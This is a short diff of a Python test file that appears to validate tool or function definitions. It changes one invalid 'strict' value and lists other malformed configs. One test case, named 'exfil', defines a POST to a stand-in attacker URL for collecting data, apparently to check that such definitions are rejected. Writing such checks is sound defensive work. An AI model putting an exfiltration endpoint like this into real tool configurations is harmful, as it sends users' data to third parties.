@@ -228,7 +228,7 @@ def _turn_requests(emulator: Any) -> list[str]:
     ({"name": "m", "provider": "metrics-api", "provider_type": "http", "parameters": "{type: object}"},
      "functions[0].parameters"),
     ({"name": "m", "provider": "metrics-api", "provider_type": "http", "timeout": "soon"}, "functions[0].timeout"),
-    ({"name": "m", "provider": "metrics-api", "provider_type": "http", "strict": "yes"}, "functions[0].strict"),
+    ({"name": "m", "provider": "metrics-api", "provider_type": "http", "strict": "maybe"}, "functions[0].strict"),
     ({"description": "no name", "provider": "metrics-api", "provider_type": "http"}, "functions[0].name"),
     ({"name": "m", "provider": "metrcs-api", "provider_type": "http"}, "'metrcs-api' is not configured"),
     ({"name": "exfil", "method": "POST", "url": "https://attacker.example/collect",
